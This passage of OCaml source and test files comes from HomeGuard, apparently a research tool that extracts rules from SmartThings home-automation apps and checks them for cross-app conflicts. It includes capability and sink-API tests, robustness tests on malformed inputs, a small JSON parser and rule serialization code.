      Helpers.check_bool "off vs on" true (Capability.contradicts sw "off" "on");
      Helpers.check_bool "on vs on" false (Capability.contradicts sw "on" "on"))

let lock_contradiction =
  Helpers.test "lock/unlock contradict" (fun () ->
      let lk = Capability.find_exn "lock" in
      Helpers.check_bool "lock vs unlock" true (Capability.contradicts lk "lock" "unlock"))

let command_lookup =
  Helpers.test "is_capability_command" (fun () ->
      Helpers.check_bool "on" true (Capability.is_capability_command "on");
      Helpers.check_bool "setHeatingSetpoint" true
        (Capability.is_capability_command "setHeatingSetpoint");
      Helpers.check_bool "subscribe is not" false (Capability.is_capability_command "subscribe"))

let attribute_domain_lookup =
  Helpers.test "attribute_domain" (fun () ->
      (match Capability.attribute_domain "switch" with
      | Some (Capability.Enum values) ->
        Helpers.check_bool "on in domain" true (List.mem "on" values)
      | _ -> Alcotest.fail "expected enum domain");
      match Capability.attribute_domain "temperature" with
      | Some (Capability.Numeric (lo, hi)) -> Helpers.check_bool "bounds" true (lo < hi)
      | _ -> Alcotest.fail "expected numeric domain")

let registry_size =
  Helpers.test "registry covers a realistic capability surface" (fun () ->
      Helpers.check_bool "40+ capabilities" true (List.length Capability.registry >= 40);
      Helpers.check_bool "40+ commands" true (Capability.command_count () >= 40))

let sink_table =
  Helpers.test "Table VI sink classification" (fun () ->
      Helpers.check_bool "httpGet" true (Api.is_table_vi_sink "httpGet");
      Helpers.check_bool "runIn" true (Api.is_table_vi_sink "runIn");
      Helpers.check_bool "setLocationMode" true (Api.is_table_vi_sink "setLocationMode");
      Helpers.check_bool "sendPush excluded" false (Api.is_table_vi_sink "sendPush");
      Helpers.check_bool "subscribe excluded" false (Api.is_table_vi_sink "subscribe"))

let table_vi_count =
  Helpers.test "Table VI has 22 sinks (21 + runDaily found in §VIII-B)" (fun () ->
      let n = List.length (List.filter (fun (n, _) -> Api.is_table_vi_sink n) Api.sink_apis) in
      Helpers.check_int "sinks" 22 n)

let scheduling_apis =
  Helpers.test "scheduling API classification" (fun () ->
      Helpers.check_bool "runIn" true (Api.is_scheduling "runIn");
      Helpers.check_bool "runEvery5Minutes" true (Api.is_scheduling "runEvery5Minutes");
      Helpers.check_bool "schedule" true (Api.is_scheduling "schedule");
      Helpers.check_bool "httpGet not" false (Api.is_scheduling "httpGet"))

let env_feature_mapping =
  Helpers.test "sensor attributes map to environment features" (fun () ->
      Helpers.check_bool "temperature" true
        (Env_feature.of_sensor_attribute "temperature" = Some Env_feature.Temperature);
      Helpers.check_bool "power" true
        (Env_feature.of_sensor_attribute "power" = Some Env_feature.Power);
      Helpers.check_bool "switch is not a feature" true
        (Env_feature.of_sensor_attribute "switch" = None))

let device_helpers =
  Helpers.test "device capability helpers" (fun () ->
      let d = Device.make ~label:"Bulb" ~device_type:"light" [ "switch"; "switchLevel" ] in
      Helpers.check_bool "supports" true (Device.supports d "capability.switch");
      Helpers.check_bool "supports short" true (Device.supports d "switchLevel");
      Helpers.check_bool "not lock" false (Device.supports d "lock");
      Helpers.check_bool "attrs" true (List.mem "level" (Device.attributes d));
      Helpers.check_bool "cmds" true (List.mem "setLevel" (Device.commands d)))

let device_id_deterministic =
  Helpers.test "device ids are deterministic 128-bit hex" (fun () ->
      let d1 = Device.make ~label:"X" ~device_type:"t" [ "switch" ] in
      let d2 = Device.make ~label:"X" ~device_type:"t" [ "switch" ] in
      Helpers.check_string "same seed same id" d1.Device.id d2.Device.id;
      Helpers.check_int "length" 32 (String.length d1.Device.id))

let location_modes =
  Helpers.test "location mode handling" (fun () ->
      let loc = Location.create () in
      Helpers.check_string "default" "Home" loc.Location.current_mode;
      Location.set_mode loc "Vacation";
      Helpers.check_string "set" "Vacation" loc.Location.current_mode;
      Helpers.check_bool "new mode registered" true (List.mem "Vacation" loc.Location.modes))

let tests =
  [
    find_qualified;
    find_exn_raises;
    opposites_symmetric;
    writes_target_declared_attrs;
    fixed_values_in_domain;
    switch_contradiction;
    lock_contradiction;
    command_lookup;
    attribute_domain_lookup;
    registry_size;
    sink_table;
    table_vi_count;
    scheduling_apis;
    env_feature_mapping;
    device_helpers;
    device_id_deterministic;
    location_modes;
  ]
