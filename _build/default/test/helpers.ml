(** Shared helpers for the test suites. *)

module Extract = Homeguard_symexec.Extract
module Rule = Homeguard_rules.Rule
module Formula = Homeguard_solver.Formula
module Term = Homeguard_solver.Term

let extract ?name src = (Extract.extract_source ?name src).Extract.app

let extract_corpus name =
  match Homeguard_corpus.Corpus.find name with
  | Some e -> extract ~name:e.Homeguard_corpus.App_entry.name e.Homeguard_corpus.App_entry.source
  | None -> Alcotest.failf "corpus app not found: %s" name

let the_rule app =
  match app.Rule.rules with
  | [ r ] -> r
  | rs -> Alcotest.failf "expected exactly one rule in %s, got %d" app.Rule.name (List.length rs)

let check_bool = Alcotest.(check bool)
let check_int = Alcotest.(check int)
let check_string = Alcotest.(check string)

let test name f = Alcotest.test_case name `Quick f

(* QCheck integration *)
let qtest ?(count = 200) name gen prop =
  QCheck_alcotest.to_alcotest (QCheck2.Test.make ~name ~count gen prop)
