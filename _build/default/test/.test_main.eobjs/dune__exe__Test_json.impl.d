test/test_json.ml: Alcotest Format Helpers Homeguard_corpus Homeguard_frontend Homeguard_rules Homeguard_solver List Printf QCheck2 String
