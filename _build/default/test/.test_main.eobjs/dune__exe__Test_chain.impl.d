test/test_chain.ml: Helpers Homeguard_detector Homeguard_rules Homeguard_solver List
