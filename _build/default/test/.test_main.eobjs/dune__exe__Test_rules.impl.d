test/test_rules.ml: Alcotest Helpers Homeguard_rules Homeguard_solver List
