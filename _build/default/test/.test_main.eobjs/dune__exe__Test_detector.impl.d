test/test_detector.ml: Alcotest Helpers Homeguard_detector Homeguard_rules Homeguard_solver Homeguard_st List String
