test/test_lexer.ml: Alcotest Format Helpers Homeguard_groovy Lexer List Token
