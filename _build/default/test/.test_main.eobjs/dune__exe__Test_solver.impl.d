test/test_solver.ml: Alcotest Dnf Domain Formula Helpers Homeguard_solver List Option QCheck2 Solver Store Term
