test/test_capability.ml: Alcotest Api Capability Device Env_feature Helpers Homeguard_st List Location String
