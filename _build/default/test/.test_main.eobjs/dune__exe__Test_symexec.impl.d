test/test_symexec.ml: Alcotest Helpers Homeguard_rules Homeguard_solver Homeguard_symexec List Printf String
