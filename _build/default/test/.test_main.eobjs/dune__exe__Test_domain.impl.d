test/test_domain.ml: Alcotest Domain Format Helpers Homeguard_solver List QCheck2
