test/test_sim.ml: Alcotest Helpers Homeguard_sim Homeguard_st List Option QCheck2
