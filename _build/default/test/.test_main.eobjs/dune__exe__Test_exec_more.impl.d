test/test_exec_more.ml: Alcotest Helpers Homeguard_rules Homeguard_solver List Printf
