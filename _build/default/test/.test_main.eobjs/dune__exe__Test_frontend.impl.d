test/test_frontend.ml: Alcotest Helpers Homeguard_detector Homeguard_frontend Homeguard_rules List String
