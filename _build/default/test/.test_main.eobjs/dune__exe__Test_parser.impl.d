test/test_parser.ml: Alcotest Ast Format Helpers Homeguard_groovy Parser Pretty QCheck2
