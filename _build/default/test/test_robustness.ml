(** Robustness and determinism: every pipeline stage is total over the
    whole corpus, reproducible, and fails cleanly on hostile input. *)

module Rule = Homeguard_rules.Rule
module Extract = Homeguard_symexec.Extract
module Detector = Homeguard_detector.Detector
module Engine = Homeguard_sim.Engine
module Device = Homeguard_st.Device
open Homeguard_corpus
open Helpers

let extraction_deterministic =
  test "extraction is deterministic" (fun () ->
      List.iter
        (fun (e : App_entry.t) ->
          let a1 = extract ~name:e.App_entry.name e.App_entry.source in
          let a2 = extract ~name:e.App_entry.name e.App_entry.source in
          if a1 <> a2 then Alcotest.failf "%s extracted differently twice" e.App_entry.name)
        Corpus.all)

let interpreter_total_over_corpus =
  test "rule interpreter renders every corpus rule without raising" (fun () ->
      List.iter
        (fun (e : App_entry.t) ->
          let a = extract ~name:e.App_entry.name e.App_entry.source in
          let text = Homeguard_frontend.Rule_interpreter.describe_app a in
          check_bool (e.App_entry.name ^ " rendered") true (String.length text > 0))
        Corpus.all)

let instrumentation_total_over_corpus =
  test "instrumentation handles every corpus app and stays parseable" (fun () ->
      List.iter
        (fun (e : App_entry.t) ->
          let instrumented =
            Homeguard_config.Instrument.instrument_source ~app_name:e.App_entry.name
              e.App_entry.source
          in
          try ignore (Homeguard_groovy.Parser.parse instrumented)
          with ex ->
            Alcotest.failf "%s instrumented source unparseable: %s" e.App_entry.name
              (Printexc.to_string ex))
        Corpus.all)

let detection_symmetric_categories =
  test "undirected categories are found regardless of pair order" (fun () ->
      let a = extract_corpus "ComfortTV" and b = extract_corpus "ColdDefender" in
      let detect p q =
        let ctx = Detector.create Detector.offline_config in
        Detector.detect_pair ctx (p, List.hd p.Rule.rules) (q, List.hd q.Rule.rules)
        |> List.filter (fun (t : Homeguard_detector.Threat.t) ->
               not (Homeguard_detector.Threat.is_directional t.Homeguard_detector.Threat.category))
        |> List.map (fun (t : Homeguard_detector.Threat.t) -> t.Homeguard_detector.Threat.category)
        |> List.sort_uniq compare
      in
      check_bool "same undirected categories both ways" true (detect a b = detect b a))

let detection_deterministic =
  test "pairwise detection is deterministic over the demo apps" (fun () ->
      let apps = List.map (fun (e : App_entry.t) -> extract ~name:e.App_entry.name e.App_entry.source) Apps_demo.all in
      let run () =
        let ctx = Detector.create Detector.offline_config in
        List.map Homeguard_detector.Threat.to_string (Detector.detect_all ctx apps)
      in
      check_bool "two runs agree" true (run () = run ()))

let engine_deterministic_by_seed =
  test "simulation traces are reproducible per seed" (fun () ->
      let run () =
        let motion = Device.make ~label:"M" ~device_type:"motion" [ "motionSensor" ] in
        let lamp = Device.make ~label:"L" ~device_type:"light" [ "switch" ] in
        let t = Engine.create ~seed:5 () in
        Engine.install t (extract_corpus "BrightenMyPath")
          [ ("motion1", Engine.B_device motion); ("pathLights", Engine.B_device lamp) ];
        Engine.stimulate t motion.Device.id "motion" "active";
        Engine.run t ~until_ms:5_000;
        Homeguard_sim.Trace.to_string (Engine.trace t)
      in
      check_bool "same trace" true (run () = run ()))

let engine_seed_changes_jitter =
  test "different seeds change command timing" (fun () ->
      let run seed =
        let motion = Device.make ~label:"M" ~device_type:"motion" [ "motionSensor" ] in
        let lamp = Device.make ~label:"L" ~device_type:"light" [ "switch" ] in
        let t = Engine.create ~seed () in
        Engine.install t (extract_corpus "BrightenMyPath")
          [ ("motion1", Engine.B_device motion); ("pathLights", Engine.B_device lamp) ];
        Engine.stimulate t motion.Device.id "motion" "active";
        Engine.run t ~until_ms:5_000;
        Homeguard_sim.Trace.commands_on (Engine.trace t) "L"
      in
      check_bool "timings differ across seeds" true (run 1 <> run 2))

let hostile_sources_fail_cleanly =
  test "hostile sources raise Extraction_error, never crash" (fun () ->
      List.iter
        (fun src ->
          match Extract.extract_source src with
          | _ -> () (* parsing successfully is also acceptable *)
          | exception Extract.Extraction_error _ -> ())
        [
          "";
          "}{";
          "def f( {";
          "input";
          String.make 10_000 '(';
          "def installed() { subscribe(, , ) }";
          "\"unterminated";
        ])

let unknown_capability_is_harmless =
  test "unknown capabilities degrade gracefully" (fun () ->
      let app =
        extract
          {|
input "gadget", "capability.flooGadget"
def installed() { subscribe(gadget, "sparkle", h) }
def h(evt) { sendPush("sparkled") }
|}
      in
      (* the subscription still yields a (notification) rule *)
      check_int "one rule" 1 (List.length app.Rule.rules))

let json_rejects_mutations =
  test "rule-file decoder rejects corrupted payloads" (fun () ->
      let s = Homeguard_rules.Rule_json.to_string (extract_corpus "ComfortTV") in
      let corrupt = String.map (fun c -> if c = ':' then ';' else c) s in
      match Homeguard_rules.Rule_json.of_string corrupt with
      | exception _ -> ()
      | _ -> Alcotest.fail "expected decode failure")

let tests =
  [
    extraction_deterministic;
    interpreter_total_over_corpus;
    instrumentation_total_over_corpus;
    detection_symmetric_categories;
    detection_deterministic;
    engine_deterministic_by_seed;
    engine_seed_changes_jitter;
    hostile_sources_fail_cleanly;
    unknown_capability_is_harmless;
    json_rejects_mutations;
  ]
