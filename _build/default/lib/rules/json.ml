(** Minimal JSON representation, printer and parser.

    The HomeGuard backend stores extracted rules as JSON strings (paper
    §VIII-C reports ~6.2 KB per app); no JSON package is available in
    the sealed environment, so this is a small self-contained
    implementation sufficient for rule files. *)

type t =
  | Null
  | Bool of bool
  | Int of int
  | Float of float
  | String of string
  | List of t list
  | Obj of (string * t) list

let escape s =
  let buf = Buffer.create (String.length s + 2) in
  String.iter
    (fun c ->
      match c with
      | '"' -> Buffer.add_string buf "\\\""
      | '\\' -> Buffer.add_string buf "\\\\"
      | '\n' -> Buffer.add_string buf "\\n"
      | '\t' -> Buffer.add_string buf "\\t"
      | '\r' -> Buffer.add_string buf "\\r"
      | c when Char.code c < 0x20 -> Buffer.add_string buf (Printf.sprintf "\\u%04x" (Char.code c))
      | c -> Buffer.add_char buf c)
    s;
  Buffer.contents buf

let rec to_buf buf = function
  | Null -> Buffer.add_string buf "null"
  | Bool b -> Buffer.add_string buf (string_of_bool b)
  | Int n -> Buffer.add_string buf (string_of_int n)
  | Float f -> Buffer.add_string buf (Printf.sprintf "%.12g" f)
  | String s ->
    Buffer.add_char buf '"';
    Buffer.add_string buf (escape s);
    Buffer.add_char buf '"'
  | List items ->
    Buffer.add_char buf '[';
    List.iteri
      (fun i item ->
        if i > 0 then Buffer.add_char buf ',';
        to_buf buf item)
      items;
    Buffer.add_char buf ']'
  | Obj fields ->
    Buffer.add_char buf '{';
    List.iteri
      (fun i (k, v) ->
        if i > 0 then Buffer.add_char buf ',';
        Buffer.add_char buf '"';
        Buffer.add_string buf (escape k);
        Buffer.add_string buf "\":";
        to_buf buf v)
      fields;
    Buffer.add_char buf '}'

let to_string json =
  let buf = Buffer.create 256 in
  to_buf buf json;
  Buffer.contents buf

exception Parse_error of string

(* -- parser -------------------------------------------------------------- *)

type pstate = { src : string; mutable pos : int }

let peek_char st = if st.pos < String.length st.src then Some st.src.[st.pos] else None

let skip_ws st =
  while
    st.pos < String.length st.src
    && match st.src.[st.pos] with ' ' | '\t' | '\n' | '\r' -> true | _ -> false
  do
    st.pos <- st.pos + 1
  done

let expect st c =
  if peek_char st = Some c then st.pos <- st.pos + 1
  else raise (Parse_error (Printf.sprintf "expected %C at %d" c st.pos))

let parse_string_body st =
  expect st '"';
  let buf = Buffer.create 16 in
  let rec go () =
    match peek_char st with
    | None -> raise (Parse_error "unterminated string")
    | Some '"' -> st.pos <- st.pos + 1
    | Some '\\' -> (
      st.pos <- st.pos + 1;
      match peek_char st with
      | Some 'n' ->
        Buffer.add_char buf '\n';
        st.pos <- st.pos + 1;
        go ()
      | Some 't' ->
        Buffer.add_char buf '\t';
        st.pos <- st.pos + 1;
        go ()
      | Some 'r' ->
        Buffer.add_char buf '\r';
        st.pos <- st.pos + 1;
        go ()
      | Some 'u' ->
        let hex = String.sub st.src (st.pos + 1) 4 in
        Buffer.add_char buf (Char.chr (int_of_string ("0x" ^ hex) land 0xff));
        st.pos <- st.pos + 5;
        go ()
      | Some c ->
        Buffer.add_char buf c;
        st.pos <- st.pos + 1;
        go ()
      | None -> raise (Parse_error "unterminated escape"))
    | Some c ->
      Buffer.add_char buf c;
      st.pos <- st.pos + 1;
      go ()
  in
  go ();
  Buffer.contents buf

let rec parse_value st =
  skip_ws st;
  match peek_char st with
  | Some '"' -> String (parse_string_body st)
  | Some '{' ->
    st.pos <- st.pos + 1;
    skip_ws st;
    if peek_char st = Some '}' then begin
      st.pos <- st.pos + 1;
      Obj []
    end
    else begin
      let rec fields acc =
        skip_ws st;
        let k = parse_string_body st in
        skip_ws st;
        expect st ':';
        let v = parse_value st in
        skip_ws st;
        match peek_char st with
        | Some ',' ->
          st.pos <- st.pos + 1;
          fields ((k, v) :: acc)
        | Some '}' ->
          st.pos <- st.pos + 1;
          List.rev ((k, v) :: acc)
        | _ -> raise (Parse_error "expected ',' or '}'")
      in
      Obj (fields [])
    end
  | Some '[' ->
    st.pos <- st.pos + 1;
    skip_ws st;
    if peek_char st = Some ']' then begin
      st.pos <- st.pos + 1;
      List []
    end
    else begin
      let rec items acc =
        let v = parse_value st in
        skip_ws st;
        match peek_char st with
        | Some ',' ->
          st.pos <- st.pos + 1;
          items (v :: acc)
        | Some ']' ->
          st.pos <- st.pos + 1;
          List.rev (v :: acc)
        | _ -> raise (Parse_error "expected ',' or ']'")
      in
      List (items [])
    end
  | Some 't' ->
    if String.length st.src - st.pos >= 4 && String.sub st.src st.pos 4 = "true" then begin
      st.pos <- st.pos + 4;
      Bool true
    end
    else raise (Parse_error "bad literal")
  | Some 'f' ->
    if String.length st.src - st.pos >= 5 && String.sub st.src st.pos 5 = "false" then begin
      st.pos <- st.pos + 5;
      Bool false
    end
    else raise (Parse_error "bad literal")
  | Some 'n' ->
    if String.length st.src - st.pos >= 4 && String.sub st.src st.pos 4 = "null" then begin
      st.pos <- st.pos + 4;
      Null
    end
    else raise (Parse_error "bad literal")
  | Some c when c = '-' || (c >= '0' && c <= '9') ->
    let start = st.pos in
    let is_float = ref false in
    let rec scan () =
      match peek_char st with
      | Some c when (c >= '0' && c <= '9') || c = '-' || c = '+' ->
        st.pos <- st.pos + 1;
        scan ()
      | Some ('.' | 'e' | 'E') ->
        is_float := true;
        st.pos <- st.pos + 1;
        scan ()
      | _ -> ()
    in
    scan ();
    let text = String.sub st.src start (st.pos - start) in
    if !is_float then Float (float_of_string text) else Int (int_of_string text)
  | _ -> raise (Parse_error (Printf.sprintf "unexpected input at %d" st.pos))

let of_string src =
  let st = { src; pos = 0 } in
  let v = parse_value st in
  skip_ws st;
  if st.pos <> String.length src then raise (Parse_error "trailing input");
  v

(* -- accessors ----------------------------------------------------------- *)

let member key = function Obj fields -> List.assoc_opt key fields | _ -> None

let get_string = function String s -> Some s | _ -> None
let get_int = function Int n -> Some n | _ -> None
let get_list = function List l -> Some l | _ -> None
