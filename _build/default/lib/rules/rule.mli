(** Automation-rule intermediate representation (paper Listing 2):
    trigger, condition (data + predicate constraints) and actions, plus
    extracted-app metadata.

    Solver-variable naming convention used throughout the system:
    ["<inputVar>.<attribute>"] for device state, ["<inputVar>"] for user
    values, ["location.mode"], ["time.now"], ["env.<feature>"]. *)

module Formula = Homeguard_solver.Formula
module Term = Homeguard_solver.Term

type subject =
  | Device of string  (** the input variable binding the device *)
  | Location
  | App_touch

type trigger =
  | Event of { subject : subject; attribute : string; constraint_ : Formula.t }
  | Scheduled of { at_minutes : int option; period_seconds : int option }

type condition = {
  data : (string * Term.t) list;  (** path assignments [var := term] *)
  predicate : Formula.t;
}

type action_target =
  | Act_device of string
  | Act_location_mode
  | Act_messaging
  | Act_http
  | Act_hub

type action = {
  target : action_target;
  command : string;
  params : Term.t list;
  when_ : int;  (** delay in seconds *)
  period : int;  (** repetition interval in seconds *)
  action_data : (string * Term.t) list;
}

type t = {
  app_name : string;
  rule_id : string;
  trigger : trigger;
  condition : condition;
  actions : action list;
}

type input_decl = {
  var : string;
  input_type : string;
  title : string option;
  multiple : bool;
}

type smartapp = {
  name : string;
  description : string;
  inputs : input_decl list;
  rules : t list;
  uses_web_services : bool;
}

val subject_to_string : subject -> string
val target_to_string : action_target -> string

val capability_of_input : smartapp -> string -> string option
(** The capability an input variable was declared with. *)

val device_inputs : smartapp -> string list

val controls_devices : t -> bool
(** Does the rule control devices/modes (vs. notification only)? *)

val expanded_predicate : t -> Formula.t
(** The predicate with data constraints substituted away: free
    variables are exactly the state the rule genuinely tests. *)

val situation : t -> Formula.t
(** Trigger constraint ∧ data equalities ∧ predicate — the situation in
    which the rule takes effect (overlap detection, paper §VI-A2). *)

val store_for_vars :
  cap_of_var:(string -> string option) -> string list -> Homeguard_solver.Store.t
(** Type qualified variables from the capability registry. *)

val store_for_rules : (smartapp * t) list -> Homeguard_solver.Store.t
