(** Rule recorder: per-home history of installed apps' rules
    (paper §IV-C). *)

type entry = { app : Rule.smartapp; installed_at : int }

type t

val create : unit -> t

val install : t -> Rule.smartapp -> int
(** Returns the logical install counter. *)

val uninstall : t -> string -> unit
val update : t -> Rule.smartapp -> unit
val installed_apps : t -> Rule.smartapp list
val find : t -> string -> entry option
val all_rules : t -> (Rule.smartapp * Rule.t) list
val rule_count : t -> int
