(** JSON (de)serialization of rules.

    Rule files are what the HomeGuard backend server stores per app and
    ships to the phone app (paper §VII-B, §VIII-C: ~6.2 KB per app). The
    encoding is lossless: [smartapp_of_json (smartapp_to_json a) = a]. *)

module Formula = Homeguard_solver.Formula
module Term = Homeguard_solver.Term

let rec term_to_json = function
  | Term.Int n -> Json.Obj [ ("int", Json.Int n) ]
  | Term.Str s -> Json.Obj [ ("str", Json.String s) ]
  | Term.Var v -> Json.Obj [ ("var", Json.String v) ]
  | Term.Add (a, b) -> Json.Obj [ ("add", Json.List [ term_to_json a; term_to_json b ]) ]
  | Term.Sub (a, b) -> Json.Obj [ ("sub", Json.List [ term_to_json a; term_to_json b ]) ]
  | Term.Mul (a, b) -> Json.Obj [ ("mul", Json.List [ term_to_json a; term_to_json b ]) ]
  | Term.Neg a -> Json.Obj [ ("neg", term_to_json a) ]

exception Decode_error of string

let fail fmt = Printf.ksprintf (fun m -> raise (Decode_error m)) fmt

let rec term_of_json = function
  | Json.Obj [ ("int", Json.Int n) ] -> Term.Int n
  | Json.Obj [ ("str", Json.String s) ] -> Term.Str s
  | Json.Obj [ ("var", Json.String v) ] -> Term.Var v
  | Json.Obj [ ("add", Json.List [ a; b ]) ] -> Term.Add (term_of_json a, term_of_json b)
  | Json.Obj [ ("sub", Json.List [ a; b ]) ] -> Term.Sub (term_of_json a, term_of_json b)
  | Json.Obj [ ("mul", Json.List [ a; b ]) ] -> Term.Mul (term_of_json a, term_of_json b)
  | Json.Obj [ ("neg", a) ] -> Term.Neg (term_of_json a)
  | j -> fail "bad term: %s" (Json.to_string j)

let cmp_to_string = Formula.cmp_to_string

let cmp_of_string = function
  | "==" -> Formula.Eq
  | "!=" -> Formula.Neq
  | "<" -> Formula.Lt
  | "<=" -> Formula.Le
  | ">" -> Formula.Gt
  | ">=" -> Formula.Ge
  | s -> fail "bad comparator: %s" s

let rec formula_to_json = function
  | Formula.True -> Json.Obj [ ("true", Json.Null) ]
  | Formula.False -> Json.Obj [ ("false", Json.Null) ]
  | Formula.Atom (cmp, a, b) ->
    Json.Obj
      [
        ("cmp", Json.String (cmp_to_string cmp)); ("lhs", term_to_json a); ("rhs", term_to_json b);
      ]
  | Formula.And fs -> Json.Obj [ ("and", Json.List (List.map formula_to_json fs)) ]
  | Formula.Or fs -> Json.Obj [ ("or", Json.List (List.map formula_to_json fs)) ]
  | Formula.Not f -> Json.Obj [ ("not", formula_to_json f) ]

let rec formula_of_json = function
  | Json.Obj [ ("true", Json.Null) ] -> Formula.True
  | Json.Obj [ ("false", Json.Null) ] -> Formula.False
  | Json.Obj [ ("cmp", Json.String c); ("lhs", a); ("rhs", b) ] ->
    Formula.Atom (cmp_of_string c, term_of_json a, term_of_json b)
  | Json.Obj [ ("and", Json.List fs) ] -> Formula.And (List.map formula_of_json fs)
  | Json.Obj [ ("or", Json.List fs) ] -> Formula.Or (List.map formula_of_json fs)
  | Json.Obj [ ("not", f) ] -> Formula.Not (formula_of_json f)
  | j -> fail "bad formula: %s" (Json.to_string j)

let subject_to_json = function
  | Rule.Device v -> Json.Obj [ ("device", Json.String v) ]
  | Rule.Location -> Json.Obj [ ("location", Json.Null) ]
  | Rule.App_touch -> Json.Obj [ ("app", Json.Null) ]

let subject_of_json = function
  | Json.Obj [ ("device", Json.String v) ] -> Rule.Device v
  | Json.Obj [ ("location", Json.Null) ] -> Rule.Location
  | Json.Obj [ ("app", Json.Null) ] -> Rule.App_touch
  | j -> fail "bad subject: %s" (Json.to_string j)

let trigger_to_json = function
  | Rule.Event { subject; attribute; constraint_ } ->
    Json.Obj
      [
        ("subject", subject_to_json subject);
        ("attribute", Json.String attribute);
        ("constraint", formula_to_json constraint_);
      ]
  | Rule.Scheduled { at_minutes; period_seconds } ->
    Json.Obj
      [
        ("at", match at_minutes with Some m -> Json.Int m | None -> Json.Null);
        ("period", match period_seconds with Some p -> Json.Int p | None -> Json.Null);
      ]

let trigger_of_json = function
  | Json.Obj [ ("subject", s); ("attribute", Json.String a); ("constraint", c) ] ->
    Rule.Event { subject = subject_of_json s; attribute = a; constraint_ = formula_of_json c }
  | Json.Obj [ ("at", at); ("period", period) ] ->
    let opt_int = function Json.Int n -> Some n | _ -> None in
    Rule.Scheduled { at_minutes = opt_int at; period_seconds = opt_int period }
  | j -> fail "bad trigger: %s" (Json.to_string j)

let data_to_json data =
  Json.List (List.map (fun (v, t) -> Json.Obj [ ("var", Json.String v); ("val", term_to_json t) ]) data)

let data_of_json = function
  | Json.List items ->
    List.map
      (function
        | Json.Obj [ ("var", Json.String v); ("val", t) ] -> (v, term_of_json t)
        | j -> fail "bad data constraint: %s" (Json.to_string j))
      items
  | j -> fail "bad data constraints: %s" (Json.to_string j)

let target_to_json = function
  | Rule.Act_device v -> Json.Obj [ ("device", Json.String v) ]
  | Rule.Act_location_mode -> Json.Obj [ ("mode", Json.Null) ]
  | Rule.Act_messaging -> Json.Obj [ ("messaging", Json.Null) ]
  | Rule.Act_http -> Json.Obj [ ("http", Json.Null) ]
  | Rule.Act_hub -> Json.Obj [ ("hub", Json.Null) ]

let target_of_json = function
  | Json.Obj [ ("device", Json.String v) ] -> Rule.Act_device v
  | Json.Obj [ ("mode", Json.Null) ] -> Rule.Act_location_mode
  | Json.Obj [ ("messaging", Json.Null) ] -> Rule.Act_messaging
  | Json.Obj [ ("http", Json.Null) ] -> Rule.Act_http
  | Json.Obj [ ("hub", Json.Null) ] -> Rule.Act_hub
  | j -> fail "bad target: %s" (Json.to_string j)

let action_to_json (a : Rule.action) =
  Json.Obj
    [
      ("target", target_to_json a.target);
      ("command", Json.String a.command);
      ("params", Json.List (List.map term_to_json a.params));
      ("when", Json.Int a.when_);
      ("period", Json.Int a.period);
      ("data", data_to_json a.action_data);
    ]

let action_of_json = function
  | Json.Obj
      [
        ("target", t);
        ("command", Json.String c);
        ("params", Json.List ps);
        ("when", Json.Int w);
        ("period", Json.Int p);
        ("data", d);
      ] ->
    {
      Rule.target = target_of_json t;
      command = c;
      params = List.map term_of_json ps;
      when_ = w;
      period = p;
      action_data = data_of_json d;
    }
  | j -> fail "bad action: %s" (Json.to_string j)

let rule_to_json (r : Rule.t) =
  Json.Obj
    [
      ("app", Json.String r.app_name);
      ("id", Json.String r.rule_id);
      ("trigger", trigger_to_json r.trigger);
      ( "condition",
        Json.Obj
          [
            ("data", data_to_json r.condition.data);
            ("predicate", formula_to_json r.condition.predicate);
          ] );
      ("actions", Json.List (List.map action_to_json r.actions));
    ]

let rule_of_json = function
  | Json.Obj
      [
        ("app", Json.String app);
        ("id", Json.String id);
        ("trigger", t);
        ("condition", Json.Obj [ ("data", d); ("predicate", p) ]);
        ("actions", Json.List actions);
      ] ->
    {
      Rule.app_name = app;
      rule_id = id;
      trigger = trigger_of_json t;
      condition = { Rule.data = data_of_json d; predicate = formula_of_json p };
      actions = List.map action_of_json actions;
    }
  | j -> fail "bad rule: %s" (Json.to_string j)

let input_to_json (i : Rule.input_decl) =
  Json.Obj
    [
      ("var", Json.String i.var);
      ("type", Json.String i.input_type);
      ("title", match i.title with Some t -> Json.String t | None -> Json.Null);
      ("multiple", Json.Bool i.multiple);
    ]

let input_of_json = function
  | Json.Obj
      [ ("var", Json.String v); ("type", Json.String t); ("title", title); ("multiple", Json.Bool m) ]
    ->
    {
      Rule.var = v;
      input_type = t;
      title = (match title with Json.String s -> Some s | _ -> None);
      multiple = m;
    }
  | j -> fail "bad input: %s" (Json.to_string j)

let smartapp_to_json (app : Rule.smartapp) =
  Json.Obj
    [
      ("name", Json.String app.name);
      ("description", Json.String app.description);
      ("inputs", Json.List (List.map input_to_json app.inputs));
      ("rules", Json.List (List.map rule_to_json app.rules));
      ("webServices", Json.Bool app.uses_web_services);
    ]

let smartapp_of_json = function
  | Json.Obj
      [
        ("name", Json.String name);
        ("description", Json.String description);
        ("inputs", Json.List inputs);
        ("rules", Json.List rules);
        ("webServices", Json.Bool ws);
      ] ->
    {
      Rule.name;
      description;
      inputs = List.map input_of_json inputs;
      rules = List.map rule_of_json rules;
      uses_web_services = ws;
    }
  | j -> fail "bad smartapp: %s" (Json.to_string j)

(** Serialize an extracted app to its rule-file string. *)
let to_string app = Json.to_string (smartapp_to_json app)

(** Parse a rule-file string. *)
let of_string s = smartapp_of_json (Json.of_string s)
