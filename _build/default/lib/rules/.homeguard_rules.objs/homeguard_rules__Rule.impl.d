lib/rules/rule.ml: Homeguard_solver Homeguard_st List Option String
