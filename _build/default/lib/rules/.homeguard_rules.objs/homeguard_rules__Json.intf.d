lib/rules/json.mli:
