lib/rules/rule_json.ml: Homeguard_solver Json List Printf Rule
