lib/rules/rule_json.mli: Homeguard_solver Json Rule
