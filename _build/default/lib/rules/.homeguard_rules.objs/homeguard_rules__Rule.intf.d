lib/rules/rule.mli: Homeguard_solver
