lib/rules/rule_db.mli: Rule
