lib/rules/rule_db.ml: List Rule
