lib/rules/json.ml: Buffer Char List Printf String
