(** Rule recorder: the per-home history of installed apps' rules.

    The threat detector's rule recorder "keeps track of the historical
    rule information of apps" (paper §IV-C); whenever a new app is
    installed only the new-vs-installed pairs need to be examined. *)

type entry = { app : Rule.smartapp; installed_at : int  (** logical install counter *) }

type t = { mutable entries : entry list; mutable counter : int }

let create () = { entries = []; counter = 0 }

(** Record a newly installed app; returns its logical install time. *)
let install db app =
  db.counter <- db.counter + 1;
  db.entries <- { app; installed_at = db.counter } :: db.entries;
  db.counter

(** Remove an app by name (user decided against keeping it). *)
let uninstall db name =
  db.entries <- List.filter (fun e -> e.app.Rule.name <> name) db.entries

(** Replace an app's rules after a configuration update. *)
let update db app =
